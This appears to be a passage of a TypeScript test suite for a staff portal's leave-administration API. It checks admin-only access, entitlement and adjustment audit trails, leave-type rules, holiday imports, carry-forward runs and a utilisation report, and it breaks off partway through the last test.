import ExcelJS from 'exceljs';
import { and, count, eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import type { LeaveRequest, MyLeave } from '@staff-portal/shared/leave';
import type {
  AdminLeaveType,
  CarryForwardPreview,
  CarryForwardRun,
  StaffBalances,
  UtilisationReport,
} from '@staff-portal/shared/leave-admin';
import { auditEntries } from '../../db/schema/audit';
import { leaveAdjustments, leaveEntitlements, leaveRequests } from '../../db/schema/leave';
import { leaveCarryForwardRuns } from '../../db/schema/leave-admin';
import { departments, leaveTypes, publicHolidays } from '../../db/schema/organisation';
import { createTestApp, type TestContext } from '../../test/app';
import {
  NOT_ADMIN,
  applyAs,
  authHeader,
  departmentHeader,
  seedLeaveFixture,
  staffIds,
  users,
  type FixtureUser,
} from '../../test/leave-fixture';

async function setup() {
  const ctx = await createTestApp();
  await seedLeaveFixture(ctx.database.db);
  return ctx;
}

async function call(
  ctx: TestContext,
  who: FixtureUser,
  method: 'GET' | 'POST' | 'PUT' | 'DELETE',
  url: string,
  payload?: object,
) {
  return ctx.app.inject({
    method,
    url: `/api${url}`,
    headers: await authHeader(ctx, who),
    ...(payload === undefined ? {} : { payload }),
  });
}

const HR = staffIds.hr;
const HAFIZ_ANNUAL_2026 = 'Muhammad Hafiz (LVUSR0000000003), Annual Leave, 2026';

/** The audit entries of an area (decision record 0038), oldest first. */
async function trailOf(ctx: TestContext, area = 'leave-admin') {
  return ctx.database.db.select().from(auditEntries).where(eq(auditEntries.area, area)).orderBy(auditEntries.id);
}
const annual = (b: StaffBalances) => b.balances.find((x) => x.leaveTypeId === 'LVE0001')!;

async function countOf(
  ctx: TestContext,
  table: typeof leaveAdjustments | typeof publicHolidays | typeof leaveEntitlements,
) {
  const [row] = await ctx.database.db.select({ n: count() }).from(table);
  return row!.n;
}

describe('leave admin: who may call', () => {
  it('refuses every department but HRAdmin and ITAdmin with 403 on every endpoint', async () => {
    const ctx = await setup();
    const endpoints: [method: 'GET' | 'POST' | 'PUT' | 'DELETE', url: string, body?: object][] = [
      ['GET', `/leave/admin/staff/${HR}`],
      ['GET', `/leave/admin/staff/${HR}/balances?year=2026`],
      ['PUT', `/leave/admin/staff/${HR}/entitlements/2026/LVE0001`, { entitled: 20 }],
      ['POST', `/leave/admin/staff/${HR}/adjustments`, { year: 2026, leaveTypeId: 'LVE0001', days: 1, reason: 'x' }],
      ['GET', `/leave/admin/staff/${HR}/requests`],
      [
        'POST',
        `/leave/admin/staff/${HR}/requests`,
        { leaveTypeId: 'LVE0001', startDate: '2027-03-08', endDate: '2027-03-08' },
      ],
      ['POST', '/leave/admin/requests/LV202703080900123456/cancel', {}],
      ['GET', '/leave/admin/types'],
      ['PUT', '/leave/admin/types/LVE0001', {}],
      ['GET', '/leave/admin/holidays?year=2027'],
      ['POST', '/leave/admin/holidays/import', { year: 2027, state: '10' }],
      ['POST', '/leave/admin/holidays', { date: '2027-05-05', region: 'MY-14', name: 'X' }],
      ['PUT', '/leave/admin/holidays/2027-03-10/MY-14', { date: '2027-03-10', region: 'MY-14', name: 'X' }],
      ['DELETE', '/leave/admin/holidays/2027-03-10/MY-14'],
      ['POST', '/leave/admin/carry-forward/preview', { fromYear: 2026 }],
      ['POST', '/leave/admin/carry-forward/apply', { fromYear: 2026 }],
      ['POST', '/leave/admin/carry-forward/1/reverse'],
      ['GET', '/leave/admin/carry-forward/runs'],
      ['GET', '/leave/admin/reports/utilisation?year=2027'],
      ['GET', '/leave/admin/reports/utilisation.xlsx?year=2027'],
      ['GET', '/leave/admin/reports/utilisation.csv?year=2027'],
    ];
    for (const department of NOT_ADMIN) {
      const headers = await departmentHeader(ctx, department);
      for (const [method, url, body] of endpoints) {
        const response = await ctx.app.inject({
          method,
          url: `/api${url}`,
          headers,
          ...(body === undefined ? {} : { payload: body }),
        });
        expect(response.statusCode, `${department} ${method} ${url}`).toBe(403);
      }
    }
    // Nothing was written by the refused calls.
    expect(await countOf(ctx, leaveAdjustments)).toBe(0);
    expect(await countOf(ctx, publicHolidays)).toBe(1);
    expect(await countOf(ctx, leaveEntitlements)).toBe(0);
    expect((await trailOf(ctx)).filter((entry) => entry.action === 'report.export')).toEqual([]);
  });
});

describe('balances, entitlements and adjustments', () => {
  it('overrides an entitlement, adds adjustments with reasons and shows the parts of each balance', async () => {
    const ctx = await setup();
    const start = (
      await call(ctx, 'hradmin', 'GET', `/leave/admin/staff/${HR}/balances?year=2026`)
    ).json<StaffBalances>();
    // Joined 2022-01-10: four years at the end of 2026, so the 2–5 years tier (12 days).
    expect(annual(start)).toMatchObject({
      entitled: 12,
      entitledOverride: null,
      carried: 0,
      adjustments: 0,
      available: 12,
    });

    const put = await call(ctx, 'hradmin', 'PUT', `/leave/admin/staff/${HR}/entitlements/2026/LVE0001`, {
      entitled: 14.5,
      carried: 2,
    });
    expect(put.statusCode).toBe(200);
    expect(annual(put.json<StaffBalances>())).toMatchObject({
      entitled: 14.5,
      entitledOverride: 14.5,
      carried: 2,
      available: 16.5,
    });

    const added = await call(ctx, 'hradmin', 'POST', `/leave/admin/staff/${HR}/adjustments`, {
      year: 2026,
      leaveTypeId: 'LVE0001',
      days: -1.5,
      reason: 'Unrecorded absence',
    });
    expect(added.statusCode).toBe(201);
    const body = added.json<StaffBalances>();
    expect(annual(body)).toMatchObject({ adjustments: -1.5, available: 15 });
    expect(body.adjustments).toEqual([
      expect.objectContaining({ leaveTypeId: 'LVE0001', days: -1.5, reason: 'Unrecorded absence', year: 2026 }),
    ]);

    // Back to the rule: null keeps the carried days.
    const reset = await call(ctx, 'itadmin', 'PUT', `/leave/admin/staff/${HR}/entitlements/2026/LVE0001`, {
      entitled: null,
    });
    expect(annual(reset.json<StaffBalances>())).toMatchObject({
      entitled: 12,
      entitledOverride: null,
      carried: 2,
      available: 12.5,
    });

    // Each change is in the audit trail with who made it, on whom, and the values before and after.
    const trail = await trailOf(ctx);
    expect(trail.map((e) => [e.action, e.actorId, e.target, e.targetLabel])).toEqual([
      ['entitlement.set', users.hradmin.sub, HR, HAFIZ_ANNUAL_2026],
      ['adjustment.add', users.hradmin.sub, HR, HAFIZ_ANNUAL_2026],
      ['entitlement.set', users.itadmin.sub, HR, HAFIZ_ANNUAL_2026],
    ]);
    expect(trail.map((e) => [e.before, e.after])).toEqual([
      [null, { year: 2026, leaveTypeId: 'LVE0001', entitled: 14.5, carried: 2, carriedExpiresOn: null }],
      [null, { year: 2026, leaveTypeId: 'LVE0001', days: -1.5, reason: 'Unrecorded absence' }],
      [
        { entitled: 14.5, carried: 2, carriedExpiresOn: null },
        { year: 2026, leaveTypeId: 'LVE0001', entitled: null, carried: 2, carriedExpiresOn: null },
      ],
    ]);
    expect(trail[0]).toMatchObject({ area: 'leave-admin', actorEmail: users.hradmin.email });
    expect(trail[0]!.requestId).toEqual(expect.any(String));
  });

  it('refuses bad entitlements and adjustments with 400 naming the field, writing nothing', async () => {
    const ctx = await setup();
    const cases: [string, string, object, string][] = [
      ['PUT', `/leave/admin/staff/${HR}/entitlements/2026/LVE0001`, { entitled: 400 }, 'entitled'],
      ['PUT', `/leave/admin/staff/${HR}/entitlements/2026/LVE0001`, { entitled: 1.25 }, 'entitled'],
      ['PUT', `/leave/admin/staff/${HR}/entitlements/2026/LVE0001`, { entitled: 3, carried: -1 }, 'carried'],
      ['PUT', `/leave/admin/staff/${HR}/entitlements/1999/LVE0001`, { entitled: 3 }, 'year'],
      ['PUT', `/leave/admin/staff/${HR}/entitlements/2026/LVE0099`, { entitled: 3 }, 'leaveTypeId'],
      ['POST', `/leave/admin/staff/${HR}/adjustments`, { year: 2026, leaveTypeId: 'LVE0001', days: 1 }, 'reason'],
      [
        'POST',
        `/leave/admin/staff/${HR}/adjustments`,
        { year: 2026, leaveTypeId: 'LVE0001', days: 1, reason: '  ' },
        'reason',
      ],
      [
        'POST',
        `/leave/admin/staff/${HR}/adjustments`,
        { year: 2026, leaveTypeId: 'LVE0001', days: 0, reason: 'x' },
        'days',
      ],
      [
        'POST',
        `/leave/admin/staff/${HR}/adjustments`,
        { year: 2026, leaveTypeId: 'LVE0001', days: 0.3, reason: 'x' },
        'days',
      ],
      [
        'POST',
        `/leave/admin/staff/${HR}/adjustments`,
        { year: 2026, leaveTypeId: 'LVE0099', days: 1, reason: 'x' },
        'leaveTypeId',
      ],
      ['POST', `/leave/admin/staff/${HR}/adjustments`, { leaveTypeId: 'LVE0001', days: 1, reason: 'x' }, 'year'],
    ];
    for (const [method, url, body, field] of cases) {
      const response = await call(ctx, 'hradmin', method as 'PUT', url, body);
      expect(response.statusCode, `${url} ${JSON.stringify(body)}`).toBe(400);
      expect(response.json(), `${url} ${JSON.stringify(body)}`).toMatchObject({ code: 'VALIDATION_ERROR', field });
    }
    expect(await countOf(ctx, leaveAdjustments)).toBe(0);
    expect(await countOf(ctx, leaveEntitlements)).toBe(0);
    // Refused changes leave no audit entry.
    expect(await trailOf(ctx)).toEqual([]);
    expect(
      (
        await call(ctx, 'hradmin', 'POST', `/leave/admin/staff/LVUSR0000009999/adjustments`, {
          year: 2026,
          leaveTypeId: 'LVE0001',
          days: 1,
          reason: 'x',
        })
      ).statusCode,
    ).toBe(404);
  });
});

describe('requests on their behalf', () => {
  it('lists their requests, applies for them under their own rules and cancels for them', async () => {
    const ctx = await setup();
    const applied = await call(ctx, 'hradmin', 'POST', `/leave/admin/staff/${HR}/requests`, {
      leaveTypeId: 'LVE0001',
      startDate: '2027-03-08',
      endDate: '2027-03-12',
      reason: 'Family trip',
    });
    expect(applied.statusCode).toBe(201);
    const request = applied.json<LeaveRequest>();
    // Wednesday 10 March 2027 is a holiday in the fixture: four days.
    expect(request).toMatchObject({ staffId: HR, status: 0, days: 4, approverStaffId: staffIds.hradmin });

    // Same rules: an overlap is refused with the field named, and nothing is written.
    const overlap = await call(ctx, 'itadmin', 'POST', `/leave/admin/staff/${HR}/requests`, {
      leaveTypeId: 'LVE0001',
      startDate: '2027-03-09',
      endDate: '2027-03-09',
    });
    expect(overlap.statusCode).toBe(400);
    expect(overlap.json()).toMatchObject({ field: 'startDate' });
    const tooMuch = await call(ctx, 'itadmin', 'POST', `/leave/admin/staff/${HR}/requests`, {
      leaveTypeId: 'LVE0001',
      startDate: '2027-06-01',
      endDate: '2027-07-30',
    });
    expect(tooMuch.json()).toMatchObject({ field: 'leaveTypeId' });
    const [n] = await ctx.database.db.select({ n: count() }).from(leaveRequests);
    expect(n!.n).toBe(1);

    const list = await call(ctx, 'hradmin', 'GET', `/leave/admin/staff/${HR}/requests?year=2027&pageSize=5`);
    expect(list.json()).toMatchObject({
      total: 1,
      page: 1,
      pageSize: 5,
      items: [{ referenceId: request.referenceId }],
    });

    // The history names the admin as the one who submitted it.
    const history = await ctx.app.inject({
      method: 'GET',
      url: `/api/leave/requests/${request.referenceId}/history`,
      headers: await authHeader(ctx, 'hr'),
    });
    expect(history.json<{ actorName: string }[]>()[0]!.actorName).toBe('Tan Mei Ling');

    // Pending → cancelled for them.
    const cancelled = await call(ctx, 'itadmin', 'POST', `/leave/admin/requests/${request.referenceId}/cancel`, {
      remarks: 'Called in',
    });
    expect(cancelled.statusCode).toBe(200);
    expect(cancelled.json()).toMatchObject({ status: 3, remarks: 'Called in' });
    // Again: it is cancelled now, a conflict.
    expect(
      (await call(ctx, 'itadmin', 'POST', `/leave/admin/requests/${request.referenceId}/cancel`, {})).statusCode,
    ).toBe(409);

    // Approved → pending cancellation by an admin (5), for the approver to decide.
    const other = await applyAs(ctx, 'hr', { leaveTypeId: 'LVE0001', startDate: '2027-04-05', endDate: '2027-04-05' });
    await ctx.app.inject({
      method: 'POST',
      url: `/api/leave/requests/${other.referenceId}/decision`,
      headers: await authHeader(ctx, 'hradmin'),
      payload: { decision: 'approve' },
    });
    const five = await call(ctx, 'itadmin', 'POST', `/leave/admin/requests/${other.referenceId}/cancel`, {});
    expect(five.json()).toMatchObject({ status: 5 });

    // Applying and cancelling for them are audited as leave changes made by the admin; the refused ones are not.
    const trail = await trailOf(ctx, 'leave');
    expect(trail.filter((e) => e.target === request.referenceId).map((e) => [e.action, e.actorId, e.after])).toEqual([
      ['request.apply', users.hradmin.sub, expect.objectContaining({ status: 0, startDate: '2027-03-08' })],
      ['request.cancel', users.itadmin.sub, { status: 3, statusLabel: 'CANCELLED', remarks: 'Called in' }],
    ]);
    expect(trail.filter((e) => e.actorId === users.itadmin.sub).map((e) => [e.action, e.target])).toEqual([
      ['request.cancel', request.referenceId],
      ['request.cancel', other.referenceId],
    ]);
  });

  it('refuses a bad apply with 400 naming the field, and unknown staff with 404', async () => {
    const ctx = await setup();
    const bad = await call(ctx, 'hradmin', 'POST', `/leave/admin/staff/${HR}/requests`, {
      leaveTypeId: 'LVE0001',
      startDate: '2027-03-09',
      endDate: '2027-03-08',
    });
    expect(bad.statusCode).toBe(400);
    expect(bad.json()).toMatchObject({ field: 'endDate' });
    const nobody = await call(ctx, 'hradmin', 'POST', `/leave/admin/staff/LVUSR0000009999/requests`, {
      leaveTypeId: 'LVE0001',
      startDate: '2027-03-08',
      endDate: '2027-03-08',
    });
    expect(nobody.statusCode).toBe(404);
    const [n] = await ctx.database.db.select({ n: count() }).from(leaveRequests);
    expect(n!.n).toBe(0);
  });
});

const annualInput = {
  name: 'Annual Leave',
  defaultDays: 8,
  serviceTiers: [
    { minYears: 0, days: 8 },
    { minYears: 2, days: 12 },
    { minYears: 5, days: 16 },
  ],
  cancellable: true,
  attachmentRequired: false,
  halfDayAllowed: true,
  balanceLimited: true,
  accruesMonthly: false,
  active: true,
  eligibleGender: null,
  minServiceMonths: 0,
  proRata: 'nearest-day',
  includesDaysOf: null,
  carryForwardCap: 5,
  carryForwardExpiry: '03-31',
};

describe('leave types', () => {
  it('lists and edits a type with its tiers, flags and carry-forward rule', async () => {
    const ctx = await setup();
    const list = (await call(ctx, 'hradmin', 'GET', '/leave/admin/types')).json<AdminLeaveType[]>();
    expect(list).toHaveLength(22);
    expect(list[0]).toMatchObject({ id: 'LVE0001', carryForwardCap: null, carryForwardExpiry: null });

    const response = await call(ctx, 'hradmin', 'PUT', '/leave/admin/types/LVE0001', {
      ...annualInput,
      name: 'Cuti Tahunan',
      serviceTiers: [
        { minYears: 0, days: 10 },
        { minYears: 3, days: 14.5 },
      ],
    });
    expect(response.statusCode).toBe(200);
    expect(response.json()).toMatchObject({
      id: 'LVE0001',
      name: 'Cuti Tahunan',
      serviceTiers: [
        { minYears: 0, days: 10 },
        { minYears: 3, days: 14.5 },
      ],
      carryForwardCap: 5,
      carryForwardExpiry: '03-31',
    });
    const [edit] = await trailOf(ctx);
    expect(edit).toMatchObject({
      actorId: users.hradmin.sub,
      action: 'leave-type.update',
      target: 'LVE0001',
      targetLabel: 'Cuti Tahunan (LVE0001)',
      before: { name: 'Annual Leave', carryForwardCap: null, carryForwardExpiry: null },
      after: {
        name: 'Cuti Tahunan',
        serviceTiers: [
          { minYears: 0, days: 10 },
          { minYears: 3, days: 14.5 },
        ],
        carryForwardCap: 5,
        carryForwardExpiry: '03-31',
      },
    });
    // The balances follow the new tiers (four years of service in 2026).
    const balances = (
      await call(ctx, 'hradmin', 'GET', `/leave/admin/staff/${HR}/balances?year=2026`)
    ).json<StaffBalances>();
    expect(annual(balances).entitled).toBe(14.5);

    // Accruing monthly: by the end of March 2027, three twelfths of 14.5 days, rounded down to the half day.
    const accruing = await call(ctx, 'hradmin', 'PUT', '/leave/admin/types/LVE0001', {
      ...annualInput,
      serviceTiers: [
        { minYears: 0, days: 10 },
        { minYears: 3, days: 14.5 },
      ],
      accruesMonthly: true,
    });
    expect(accruing.json()).toMatchObject({ accruesMonthly: true });
    const march = (await call(ctx, 'hr', 'GET', '/leave/me?asAt=2027-03-31')).json<MyLeave>();
    expect(march.balances.find((b) => b.leaveTypeId === 'LVE0001')).toMatchObject({
      entitled: 3.5,
      entitledForYear: 14.5,
      accruesMonthly: true,
    });
  });

  it("lists and edits each type's eligibility, pro-rating and inclusive allowance, the catalogue's as the Act says", async () => {
    const ctx = await setup();
    const list = (await call(ctx, 'hradmin', 'GET', '/leave/admin/types')).json<AdminLeaveType[]>();
    const rules = (id: string) => {
      const { eligibleGender, minServiceMonths, proRata, includesDaysOf } = list.find((t) => t.id === id)!;
      return { eligibleGender, minServiceMonths, proRata, includesDaysOf };
    };
    expect(rules('LVE0001')).toEqual({
      eligibleGender: null,
      minServiceMonths: 0,
      proRata: 'nearest-day',
      includesDaysOf: null,
    });
    expect(rules('LVE0002')).toEqual({
      eligibleGender: null,
      minServiceMonths: 0,
      proRata: 'off',
      includesDaysOf: null,
    });
    expect(rules('LVE0003')).toMatchObject({ includesDaysOf: 'LVE0002' });
    expect(rules('LVE0004')).toMatchObject({ eligibleGender: 'F', minServiceMonths: 0 });
    expect(rules('LVE0005')).toMatchObject({ eligibleGender: 'M', minServiceMonths: 12 });

    // Study leave for women with six months' service, pro-rated down to the half day, including Examination Leave.
    const {
      id: _id,
      carryForwardCap: _cap,
      carryForwardExpiry: _expiry,
      ...study
    } = list.find((t) => t.id === 'LVE0011')!;
    const edited = await call(ctx, 'hradmin', 'PUT', '/leave/admin/types/LVE0011', {
      ...study,
      eligibleGender: 'F',
      minServiceMonths: 6,
      proRata: 'down-to-half-day',
      includesDaysOf: 'LVE0012',
      carryForwardCap: null,
      carryForwardExpiry: null,
    });
    expect(edited.statusCode, edited.body).toBe(200);
    expect(edited.json()).toMatchObject({
      eligibleGender: 'F',
      minServiceMonths: 6,
      proRata: 'down-to-half-day',
      includesDaysOf: 'LVE0012',
    });
    const hers = await call(ctx, 'hr', 'GET', '/leave/me?year=2027');
    expect(hers.json<MyLeave>().balances.find((b) => b.leaveTypeId === 'LVE0011')).toMatchObject({
      available: 0,
      ineligible: { reason: 'gender', gender: 'F' },
    });
  });

  it('refuses an inclusive allowance that would include itself, chain or share an included type, changing nothing', async () => {
    const ctx = await setup();
    const cases: [string, object, RegExp][] = [
      ['LVE0011', { includesDaysOf: 'LVE0011' }, /its own days/],
      ['LVE0011', { includesDaysOf: 'LVE0099' }, /no leave type LVE0099/],
      // Hospitalisation includes medical leave: nothing else may include medical leave, or hospitalisation.
      ['LVE0011', { includesDaysOf: 'LVE0002' }, /Hospitalisation Leave already includes the days of Medical Leave/],
      ['LVE0011', { includesDaysOf: 'LVE0003' }, /one level only/],
      ['LVE0002', { includesDaysOf: 'LVE0011' }, /one level only/],
      ['LVE0011', { includesDaysOf: 'Study' }, /LVE0001/],
      ['LVE0011', { eligibleGender: 'X' }, /./],
      ['LVE0011', { minServiceMonths: -1 }, /between 0 and 600/],
      ['LVE0011', { minServiceMonths: 1.5 }, /whole months/],
      ['LVE0011', { proRata: 'sometimes' }, /./],
    ];
    const list = (await call(ctx, 'hradmin', 'GET', '/leave/admin/types')).json<AdminLeaveType[]>();
    for (const [id, change, message] of cases) {
      const { id: _id, ...type } = list.find((t) => t.id === id)!;
      const response = await call(ctx, 'hradmin', 'PUT', `/leave/admin/types/${id}`, { ...type, ...change });
      expect(response.statusCode, JSON.stringify(change)).toBe(400);
      const field = Object.keys(change)[0];
      expect(response.json(), JSON.stringify(change)).toMatchObject({ code: 'VALIDATION_ERROR', field });
      expect(response.json<{ message: string }>().message, JSON.stringify(change)).toMatch(message);
    }
    const after = (await call(ctx, 'hradmin', 'GET', '/leave/admin/types')).json<AdminLeaveType[]>();
    expect(after).toEqual(list);
    expect(await trailOf(ctx)).toEqual([]);
  });

  it('refuses descending tiers, days out of range and a bad expiry with 400, changing nothing', async () => {
    const ctx = await setup();
    const cases: [object, string][] = [
      [
        {
          serviceTiers: [
            { minYears: 5, days: 16 },
            { minYears: 2, days: 12 },
          ],
        },
        'serviceTiers',
      ],
      [
        {
          serviceTiers: [
            { minYears: 2, days: 12 },
            { minYears: 2, days: 14 },
          ],
        },
        'serviceTiers',
      ],
      [{ serviceTiers: [{ minYears: 0, days: 367 }] }, 'serviceTiers.0.days'],
      [{ defaultDays: -1 }, 'defaultDays'],
      [{ name: '' }, 'name'],
      [{ carryForwardExpiry: '02-30' }, 'carryForwardExpiry'],
      [{ carryForwardCap: 400 }, 'carryForwardCap'],
    ];
    for (const [change, field] of cases) {
      const response = await call(ctx, 'hradmin', 'PUT', '/leave/admin/types/LVE0001', { ...annualInput, ...change });
      expect(response.statusCode, JSON.stringify(change)).toBe(400);
      expect(response.json(), JSON.stringify(change)).toMatchObject({ field });
    }
    const [type] = await ctx.database.db.select().from(leaveTypes).where(eq(leaveTypes.id, 'LVE0001'));
    expect(type!.serviceTiers).toEqual(annualInput.serviceTiers);
    expect((await call(ctx, 'hradmin', 'PUT', '/leave/admin/types/LVE0099', annualInput)).statusCode).toBe(404);
  });
});

describe('public holidays', () => {
  it("imports a state's holidays for a year idempotently, and adds, edits and deletes one", async () => {
    const ctx = await setup();
    const first = await call(ctx, 'hradmin', 'POST', '/leave/admin/holidays/import', { year: 2027, state: '10' });
    expect(first.statusCode).toBe(200);
    const { imported, region } = first.json<{ imported: number; region: string }>();
    expect(region).toBe('MY-10');
    expect(imported).toBeGreaterThan(10);
    const total = await countOf(ctx, publicHolidays);
    expect(total).toBe(imported + 1);
    const again = await call(ctx, 'hradmin', 'POST', '/leave/admin/holidays/import', { year: 2027, state: '10' });
    expect(again.json()).toEqual(first.json());
    expect(await countOf(ctx, publicHolidays)).toBe(total);
    const list = (await call(ctx, 'hradmin', 'GET', '/leave/admin/holidays?year=2027')).json<
      { region: string; name: string }[]
    >();
    expect(list.filter((h) => h.region === 'MY-10')).toHaveLength(imported);
    expect(list.some((h) => /Sultan of Selangor/i.test(h.name))).toBe(true);

    const added = await call(ctx, 'hradmin', 'POST', '/leave/admin/holidays', {
      date: '2027-05-05',
      region: 'MY-14',
      name: 'Company Day',
    });
    expect(added.statusCode).toBe(201);
    const dup = await call(ctx, 'hradmin', 'POST', '/leave/admin/holidays', {
      date: '2027-05-05',
      region: 'MY-14',
      name: 'Again',
    });
    expect(dup.statusCode).toBe(400);
    expect(dup.json()).toMatchObject({ field: 'date' });
    const moved = await call(ctx, 'hradmin', 'PUT', '/leave/admin/holidays/2027-05-05/MY-14', {
      date: '2027-05-06',
      region: 'MY-14',
      name: 'Company Day (moved)',
    });
    expect(moved.statusCode).toBe(200);
    const rows = await ctx.database.db
      .select()
      .from(publicHolidays)
      .where(and(eq(publicHolidays.region, 'MY-14'), eq(publicHolidays.name, 'Company Day (moved)')));
    expect(rows.map((r) => r.date)).toEqual(['2027-05-06']);
    expect((await call(ctx, 'hradmin', 'DELETE', '/leave/admin/holidays/2027-05-06/MY-14')).statusCode).toBe(204);
    expect((await call(ctx, 'hradmin', 'DELETE', '/leave/admin/holidays/2027-05-06/MY-14')).statusCode).toBe(404);

    // The refused add and the second delete left no audit entry.
    const trail = await trailOf(ctx);
    expect(trail.map((e) => [e.action, e.target, e.before, e.after])).toEqual([
      ['holiday.import', 'holidays:MY-10:2027', null, { year: 2027, region: 'MY-10', imported }],
      ['holiday.import', 'holidays:MY-10:2027', null, { year: 2027, region: 'MY-10', imported }],
      ['holiday.add', 'holiday:MY-14:2027-05-05', null, { date: '2027-05-05', region: 'MY-14', name: 'Company Day' }],
      [
        'holiday.update',
        'holiday:MY-14:2027-05-05',
        { date: '2027-05-05', region: 'MY-14', name: 'Company Day' },
        { date: '2027-05-06', region: 'MY-14', name: 'Company Day (moved)' },
      ],
      [
        'holiday.delete',
        'holiday:MY-14:2027-05-06',
        { date: '2027-05-06', region: 'MY-14', name: 'Company Day (moved)' },
        null,
      ],
    ]);
    expect(trail.every((e) => e.actorId === users.hradmin.sub)).toBe(true);
    expect(trail[2]!.targetLabel).toBe('Company Day (2027-05-05, MY-14)');
  });

  it('refuses a bad state, year, date or empty name with 400, writing nothing', async () => {
    const ctx = await setup();
    const cases: [string, string, object, string][] = [
      ['POST', '/leave/admin/holidays/import', { year: 2027, state: '17' }, 'state'],
      ['POST', '/leave/admin/holidays/import', { year: 1999, state: '10' }, 'year'],
      ['POST', '/leave/admin/holidays', { date: '2027-02-30', region: 'MY-14', name: 'X' }, 'date'],
      ['POST', '/leave/admin/holidays', { date: '2027-05-05', region: 'SG', name: 'X' }, 'region'],
      ['POST', '/leave/admin/holidays', { date: '2027-05-05', region: 'MY-14', name: ' ' }, 'name'],
      ['PUT', '/leave/admin/holidays/2027-03-10/MY-14', { date: '2027-03-10', region: 'MY-14', name: '' }, 'name'],
    ];
    for (const [method, url, body, field] of cases) {
      const response = await call(ctx, 'hradmin', method as 'POST', url, body);
      expect(response.statusCode, JSON.stringify(body)).toBe(400);
      expect(response.json()).toMatchObject({ field });
    }
    expect(await countOf(ctx, publicHolidays)).toBe(1);
  });
});

describe('carry-forward', () => {
  it('previews, applies in one run, and reverses to the previous values', async () => {
    const ctx = await setup();
    await call(ctx, 'hradmin', 'PUT', '/leave/admin/types/LVE0001', annualInput);
    // Priya (hr2) already has an override for 2027, which the run must keep and the reversal restore.
    await call(ctx, 'hradmin', 'PUT', `/leave/admin/staff/${staffIds.hr2}/entitlements/2027/LVE0001`, {
      entitled: 20,
      carried: 1,
    });
    // Hafiz used 9 of his 12 days of 2026: 3 left, under the cap.
    await call(ctx, 'hradmin', 'POST', `/leave/admin/staff/${HR}/adjustments`, {
      year: 2026,
      leaveTypeId: 'LVE0001',
      days: -9,
      reason: 'Leave taken before the system',
    });

    const preview = await call(ctx, 'hradmin', 'POST', '/leave/admin/carry-forward/preview', { fromYear: 2026 });
    expect(preview.statusCode).toBe(200);
    const rows = preview.json<CarryForwardPreview>().rows;
    expect(rows).toHaveLength(7);
    expect(rows.find((r) => r.staffId === HR)).toMatchObject({ available: 3, carried: 3, expiresOn: '2027-03-31' });
    expect(rows.find((r) => r.staffId === staffIds.hradmin)).toMatchObject({ carried: 5 });
    expect(await countOf(ctx, leaveEntitlements)).toBe(1);

    const applied = await call(ctx, 'hradmin', 'POST', '/leave/admin/carry-forward/apply', { fromYear: 2026 });
    expect(applied.statusCode).toBe(201);
    const run = applied.json<CarryForwardRun>();
    expect(run).toMatchObject({ fromYear: 2026, reversedAt: null });
    expect(run.rows).toBe(rows.filter((r) => r.carried > 0).length);

    const hafiz2027 = (
      await call(ctx, 'hradmin', 'GET', `/leave/admin/staff/${HR}/balances?year=2027`)
    ).json<StaffBalances>();
    expect(annual(hafiz2027)).toMatchObject({ carried: 3, carriedExpiresOn: '2027-03-31' });
    const priya2027 = (
      await call(ctx, 'hradmin', 'GET', `/leave/admin/staff/${staffIds.hr2}/balances?year=2027`)
    ).json<StaffBalances>();
    expect(annual(priya2027)).toMatchObject({ entitled: 20, carried: 5 });

    // A second apply of the same year is refused until the first is reversed.
    expect(
      (await call(ctx, 'hradmin', 'POST', '/leave/admin/carry-forward/apply', { fromYear: 2026 })).statusCode,
    ).toBe(409);

    const reversed = await call(ctx, 'itadmin', 'POST', `/leave/admin/carry-forward/${run.id}/reverse`);
    expect(reversed.statusCode).toBe(200);
    expect(reversed.json<CarryForwardRun>().reversedAt).not.toBeNull();
    const entitlements = await ctx.database.db.select().from(leaveEntitlements);
    expect(entitlements).toEqual([
      expect.objectContaining({ staffId: staffIds.hr2, year: 2027, entitled: 20, carried: 1, carriedExpiresOn: null }),
    ]);
    expect((await call(ctx, 'itadmin', 'POST', `/leave/admin/carry-forward/${run.id}/reverse`)).statusCode).toBe(409);
    const runs = (await call(ctx, 'itadmin', 'GET', '/leave/admin/carry-forward/runs')).json<CarryForwardRun[]>();
    expect(runs.map((r) => r.id)).toEqual([run.id]);
    // The refused second apply and second reversal left no audit entry.
    const trail = (await trailOf(ctx)).filter((e) => e.action.startsWith('carry-forward.'));
    expect(trail.map((e) => [e.action, e.actorId, e.target, e.targetLabel, e.after])).toEqual([
      [
        'carry-forward.apply',
        users.hradmin.sub,
        `carry-forward:${run.id}`,
        'Carry-forward from 2026 to 2027',
        { runId: run.id, fromYear: 2026, rows: run.rows, days: run.days },
      ],
      [
        'carry-forward.reverse',
        users.itadmin.sub,
        `carry-forward:${run.id}`,
        'Carry-forward from 2026 to 2027',
        { runId: run.id, fromYear: 2026, rows: run.rows, reversed: true },
      ],
    ]);
  });

  it('refuses a bad year with 400 and an unknown run with 404, writing nothing', async () => {
    const ctx = await setup();
    for (const body of [{ fromYear: 1999 }, {}, { fromYear: 'last' }]) {
      const response = await call(ctx, 'hradmin', 'POST', '/leave/admin/carry-forward/apply', body);
      expect(response.statusCode).toBe(400);
      expect(response.json()).toMatchObject({ field: 'fromYear' });
    }
    expect((await call(ctx, 'hradmin', 'POST', '/leave/admin/carry-forward/99/reverse')).statusCode).toBe(404);
    const [runs] = await ctx.database.db.select({ n: count() }).from(leaveCarryForwardRuns);
    expect(runs!.n).toBe(0);
  });
});

describe('utilisation report', () => {
  it('sums days taken and pending by department and type, with the number of staff', async () => {
    const ctx = await setup();
    const a = await applyAs(ctx, 'hr', { leaveTypeId: 'LVE0001', startDate: '2027-03-08', endDate: '2027-03-09' });
    await applyAs(ctx, 'hr2', { leaveTypeId: 'LVE0001', startDate: '2027-03-08', endDate: '2027-03-08', dayType: 1 });
    await ctx.app.inject({
      method: 'POST',
      url: `/api/leave/requests/${a.referenceId}/decision`,
      headers: await authHeader(ctx, 'hradmin'),
      payload: { decision: 'approve' },
    });
    const response = await call(ctx, 'hradmin', 'GET', '/leave/admin/reports/utilisation?year=2027');
    expect(response.statusCode).toBe(200);
    expect(response.json<UtilisationReport>()).toEqual({
      year: 2027,
      rows: [
        {
          departmentCode: 'HR',
          departmentName: 'Human Resources',
          leaveTypeId: 'LVE0001',
          leaveTypeName: 'Annual Leave',
          staffCount: 2,
          daysTaken: 2,
          daysPending: 0.5,
        },
      ],
    });
